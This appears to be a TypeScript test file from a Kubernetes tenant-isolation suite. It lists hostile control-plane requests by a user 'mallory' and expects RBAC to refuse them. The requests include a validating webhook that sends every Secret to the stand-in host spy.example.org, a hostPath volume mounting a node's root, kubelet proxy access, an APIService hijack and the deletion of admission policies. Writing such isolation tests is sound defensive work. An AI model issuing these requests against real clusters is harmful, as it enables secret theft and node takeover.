import { create, type Group, get, named, rbac, refused, remove } from "./attempt.ts";

const admission = "/apis/admissionregistration.k8s.io/v1";
const own = (name: string) => `kubecamp-${name}-hostile`;
const hook = {
  name: "spy.example.org",
  admissionReviewVersions: ["v1"],
  sideEffects: "None",
  clientConfig: { url: "https://spy.example.org" },
  rules: [{ apiGroups: [""], apiVersions: ["v1"], resources: ["secrets"], operations: ["*"] }],
};

const spies = {
  metadata: { name: "spies.example.org" },
  spec: {
    group: "example.org",
    names: { plural: "spies", kind: "Spy" },
    scope: "Namespaced",
    versions: [{ name: "v1", served: true, storage: true, schema: { openAPIV3Schema: { type: "object" } } }],
  },
};

/** The cluster's own: admission, nodes and their volumes, and paths outside resources. */
export const control: Group = {
  on: "the cluster",
  attempts: [
    ...refused(rbac("delete", "validatingadmissionpolicies.admissionregistration.k8s.io"), {
      "deletes the policy on Services": remove(`${admission}/validatingadmissionpolicies/${own("services")}`),
    }),
    ...refused(rbac("delete", "validatingadmissionpolicybindings.admissionregistration.k8s.io"), {
      "unbinds the policy on routes": remove(`${admission}/validatingadmissionpolicybindings/${own("routes")}`),
    }),
    [
      "has every Secret that is written sent to them",
      create(`${admission}/validatingwebhookconfigurations`, named("spy", { webhooks: [hook] })),
      rbac("create", "validatingwebhookconfigurations.admissionregistration.k8s.io"),
    ],
    ...refused(rbac("create", "persistentvolumes"), {
      "makes a volume of a node's files": create(
        "/api/v1/persistentvolumes",
        named("root", {
          spec: { capacity: { storage: "1Gi" }, accessModes: ["ReadWriteOnce"], hostPath: { path: "/" } },
        }),
      ),
    }),
    ["speaks to a node's kubelet", get("/api/v1/nodes/node-000000/proxy/pods"), rbac("get", "nodes/proxy")],
    [
      "makes a PriorityClass above all",
      create("/apis/scheduling.k8s.io/v1/priorityclasses", named("first", { value: 1000000000 })),
      rbac("create", "priorityclasses.scheduling.k8s.io"),
    ],
    ...refused(rbac("create", "customresourcedefinitions.apiextensions.k8s.io"), {
      "teaches the API server a new kind": create("/apis/apiextensions.k8s.io/v1/customresourcedefinitions", spies),
    }),
    ...refused(rbac("create", "apiservices.apiregistration.k8s.io"), {
      "takes over a group of the API with an APIService": create(
        "/apis/apiregistration.k8s.io/v1/apiservices",
        named("v1.spy.example.org", {
          spec: { group: "spy.example.org", version: "v1", groupPriorityMinimum: 1, versionPriority: 1 },
        }),
      ),
    }),
    ...refused(/User "oidc:mallory" cannot put path "\/debug\/flags\/v"/, {
      "has the API server log what it is sent": ({ ask }) => ask("PUT", "/debug/flags/v", 10, "text/plain"),
    }),
  ],
  controls: {
    "sees which version the cluster has": get("/version"),
  },
};
